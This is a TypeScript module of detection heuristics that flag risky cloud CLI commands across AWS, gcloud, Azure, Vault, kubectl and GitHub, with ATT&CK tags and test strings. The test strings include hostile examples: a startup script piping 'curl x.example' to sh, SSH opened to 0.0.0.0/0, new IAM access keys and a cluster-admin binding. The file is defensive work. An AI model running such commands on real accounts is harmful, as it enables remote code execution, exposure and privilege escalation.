// Cloud accounts: their secrets, their rights, and the record of what happens in them.
import { has, settingsOf, value } from "../../../normalise/programs/invocation.ts";
import { severity } from "../../bands.ts";
import { type Heuristic, firstOf, onCommand } from "../../heuristic.ts";
import { wordsOf } from "../../read.ts";

const opensPort =
  /\bauthorize-security-group-ingress\b|\bfirewall-rules (?:create|update)\b|\bnsg rule (?:create|update)\b|\bsecurity group rule create\b|\bfirewall (?:add-rules?|create)\b/u;

export const cloud: readonly Heuristic[] = [
  {
    id: "stored-secret-changed",
    threat: "Remote resource deletion",
    technique: "T1531",
    score: severity.ask,
    check: firstOf(
      onCommand(["aws"], (command) =>
        /^secretsmanager (?:update|put|rotate|restore|replicate)-|^ssm put-parameter|^kms (?:disable|schedule)-/u.test(
          command.subcommand,
        )
          ? "It changes a stored secret that others use"
          : null,
      ),
      onCommand(["az"], (command) =>
        /\bkeyvault (?:secret|key) (?:set|rotate)\b|\bpurge\b/u.test(command.subcommand)
          ? "It changes a stored secret that others use"
          : null,
      ),
      onCommand(["gcloud"], (command) =>
        /\bsecrets versions (?:add|disable|destroy)\b/u.test(command.subcommand)
          ? "It changes a stored secret that others use"
          : null,
      ),
      onCommand(["vault"], (command) =>
        /^(?:operator (?:seal|step-down|rekey|rotate)|lease revoke|token revoke|secrets (?:disable|move|tune)|auth disable|policy delete|audit disable)/u.test(
          command.subcommand,
        )
          ? "It changes how secrets are kept"
          : null,
      ),
    ),
    match: ["aws secretsmanager put-secret-value --secret-id x --secret-string y", "vault secrets disable team/"],
    not_match: ["aws secretsmanager list-secrets --max-items 5", "vault status", "vault kv get secret/x"],
  },
  {
    id: "cloud-opened",
    threat: "Weakened defences",
    technique: "T1562.007",
    score: severity.ask,
    check: firstOf(
      onCommand(["aws", "gcloud", "az", "openstack", "doctl", "hcloud"], (command) => {
        const settings = settingsOf(command);
        return opensPort.test(wordsOf(command).slice(0, 5).join(" ")) &&
          (settings.some((setting) => /0\.0\.0\.0\/0|::\/0/u.test(setting)) ||
            /^(?:\*|internet)$/iu.test(value(command, "--source-address-prefix") ?? "")) &&
          !settings.some((setting) => /\b(?:80|443)\b/u.test(setting))
          ? "It opens machines in the cloud to the whole world"
          : null;
      }),
      onCommand(["aws"], (command) =>
        /^organizations leave-organization$|^ec2 disable-ebs-encryption-by-default$/u.test(command.subcommand) ||
        (command.subcommand === "ec2 modify-instance-metadata-options" &&
          value(command, "--http-tokens") === "optional") ||
        (command.subcommand === "s3api put-public-access-block" &&
          settingsOf(command).some((setting) => /=false/u.test(setting)))
          ? "It takes a protection of the account away"
          : null,
      ),
    ),
    match: [
      "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 0.0.0.0/0",
      "gcloud compute firewall-rules create open --allow tcp:22 --source-ranges 0.0.0.0/0",
      "aws organizations leave-organization",
    ],
    not_match: [
      "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 10.0.0.0/8",
      "gcloud compute firewall-rules list",
      "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp --port 443 --cidr 0.0.0.0/0",
    ],
  },
  {
    id: "cloud-machine-scripted",
    threat: "Remote code execution",
    technique: "T1651",
    score: severity.ask,
    check: firstOf(
      onCommand(["aws"], (command) =>
        (command.subcommand === "ec2 modify-instance-attribute" &&
          (has(command, "--user-data") || settingsOf(command).some((setting) => /user-?data/iu.test(setting)))) ||
        /^ssm start-session$|^ecs execute-command$/u.test(command.subcommand)
          ? "It runs commands on a machine in the cloud, or has it run them when it starts"
          : null,
      ),
      onCommand(["gcloud"], (command) =>
        /\badd-metadata\b/u.test(command.subcommand) &&
        settingsOf(command).some((setting) => /startup-script|ssh-keys|windows-startup/u.test(setting))
          ? "It has a machine in the cloud run its commands or let its keys in"
          : null,
      ),
      onCommand(["az"], (command) =>
        /\bvm (?:user (?:update|reset-ssh)|extension set)\b|\bvmss extension set\b/u.test(command.subcommand)
          ? "It makes an account or runs commands on a machine in the cloud"
          : null,
      ),
    ),
    match: [
      "gcloud compute instances add-metadata vm --metadata=startup-script='curl x.example | sh'",
      "az vm user update -u me -p x -g rg -n vm",
      "aws ecs execute-command --cluster c --task t --command sh --interactive",
    ],
    not_match: ["gcloud compute instances describe vm", "az vm list", "aws ec2 describe-instances"],
  },
  {
    id: "cloud-rights-changed",
    threat: "Privilege escalation",
    technique: "T1098",
    score: severity.ask,
    check: firstOf(
      onCommand(["aws"], (command) =>
        /^iam (?:create-(?:user|access-key|login-profile|role|group|policy)|attach-|put-(?:user|role|group)-policy|add-user-to-group|update-assume-role-policy|update-login-profile|add-role)/u.test(
          command.subcommand,
        )
          ? "It changes who may do what in the account"
          : null,
      ),
      onCommand(["gcloud"], (command) =>
        /\badd-iam-policy-binding\b|\biam (?:service-accounts|roles) (?:create|update|keys create)|set-iam-policy/u.test(
          command.subcommand,
        )
          ? "It changes who may do what in the account"
          : null,
      ),
      onCommand(["az"], (command) =>
        /\brole assignment create\b|\bad (?:user|sp|app) (?:create|credential)/u.test(command.subcommand)
          ? "It changes who may do what in the account"
          : null,
      ),
      onCommand(["az", "aws"], (command) =>
        /\bvm run-command invoke\b|\bvmss run-command\b|^ssm send-command\b|^ec2-instance-connect send-ssh-public-key\b/u.test(
          command.subcommand,
        )
          ? "It runs commands on a machine in the cloud"
          : null,
      ),
      onCommand(["etcdctl"], (command) =>
        command.operands[0] === "get" &&
        /^(?:\/(?:registry.*)?|)$/u.test(command.operands[1] ?? "none") &&
        has(command, "--prefix")
          ? "It reads everything the cluster keeps"
          : null,
      ),
      onCommand(["gh", "glab"], (command) =>
        /^(?:ssh-key|gpg-key|deploy-key|repo deploy-key) add$/u.test(command.subcommand)
          ? "It lets another key into the account or the repository"
          : null,
      ),
      onCommand(["kubectl", "oc"], (command) =>
        (command.subcommand === "create" && /^(?:cluster)?rolebinding$/u.test(command.operands[0] ?? "")) ||
        settingsOf(command).some((setting) => setting.includes("cluster-admin"))
          ? "It changes who may do what in the cluster"
          : null,
      ),
    ),
    match: [
      "aws iam create-access-key --user-name x",
      "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=y",
    ],
    not_match: ["aws iam list-users --max-items 5", "kubectl auth can-i get pods"],
  },
];
